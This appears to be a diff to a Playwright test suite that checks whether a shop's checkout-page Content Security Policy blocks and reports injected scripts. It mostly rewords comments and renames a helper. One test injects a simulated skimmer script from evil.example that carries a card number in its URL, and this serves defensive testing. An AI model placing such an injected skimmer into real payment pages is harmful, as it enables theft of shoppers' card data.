@@ -1,6 +1,6 @@
 /**
- * A script that somebody else puts into the payment page on its way (PCI DSS 11.6.1): it does not run, and the
- * shop learns of it. The page's policy comes as a meta tag and, the same, as a header with where to report.
+ * A script that someone adds to the payment page on its way (PCI DSS 11.6.1) does not run, and the shop is notified.
+ * The page has its policy as a meta tag, and again as a header that also names the address for reports.
  */
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -27,7 +27,7 @@ const counted = async () =>
     .sort();
 
 test.each(reportedPages)(
-  '%s carries its meta tag’s policy as a header too, and says where to report',
+  '%s has its meta tag’s policy as a header too, with an address for reports',
   async (path) => {
     const { page } = await visit(1280);
     const headers = (await page.goto(path))?.headers() ?? {};
@@ -51,8 +51,8 @@ test('no other page reports anything', async () => {
   }
 });
 
-/** Changes the page on its way. The browser of these tests is built without the Reporting API: it is left with `report-uri`. */
-const changeOnTheWay = (page: Page, injected: string) =>
+/** Changes the response. The tests' browser is built without the Reporting API, so only `report-uri` is left. */
+const changeResponse = (page: Page, injected: string) =>
   page.route(/\/(checkout|place-order)$/, async (route) => {
     const response = await route.fetch();
     const headers = response.headers();
@@ -61,12 +61,12 @@ const changeOnTheWay = (page: Page, injected: string) =>
     await route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy }, body });
   });
 
-test('a script that was put into the page does not run, is counted, and raises a flag', async () => {
+test('an injected script does not run, is counted, and raises a flag', async () => {
   const visitor = await visit(1280);
   visitor.expectConsole('Content Security Policy');
   visitor.expectFailure({ path: '/skimmer.js', status: 0 });
   const { page } = visitor;
-  await changeOnTheWay(
+  await changeResponse(
     page,
     '<script src="https://evil.example/skimmer.js?card=4111"></script><script>window.skimmed = true</script>',
   );
@@ -81,11 +81,11 @@ test('a script that was put into the page does not run, is counted, and raises a
   expect(JSON.stringify(raised)).not.toContain('4111');
 });
 
-test('with the policy as a header, Razorpay’s window opens as before, and nothing is reported', async () => {
+test('with the policy as a header, Razorpay’s window opens, and nothing is reported', async () => {
   const { page } = await atCheckout(shop, visit, 390, 'razorpay');
   const reports: string[] = [];
   page.on('request', (request) => request.url().includes('policy-report') && reports.push(request.url()));
-  await changeOnTheWay(page, '');
+  await changeResponse(page, '');
   await page.reload();
   await startPaying(page, 'razorpay');
   await see(widget(page).getByText('₹698.00'));
